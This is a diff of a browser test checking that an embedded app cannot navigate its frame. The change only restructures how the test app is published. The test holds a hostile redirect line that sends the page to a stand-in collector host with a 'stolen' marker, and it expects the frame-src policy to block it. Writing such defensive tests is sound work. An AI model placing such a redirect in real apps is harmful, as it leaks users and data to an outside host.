@@ -168,8 +168,7 @@ test('an app cannot navigate its frame', async ({ page, client, openEmbed }) => 
   const collected = await watchCollector(page);
   const refusal = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
   const leave = 'location.href = "https://collector.example/?stolen";';
-  const dashboard = await publishApp(client, { 'index.html': HTML, 'lib/app.js': leave });
-  await openEmbed(page, { viewer, dashboard });
+  await openEmbed(page, { viewer, dashboard: await publishApp(client, { 'index.html': HTML, 'lib/app.js': leave }) });
   await refusal;
   expect(collected).toEqual([]);
 });
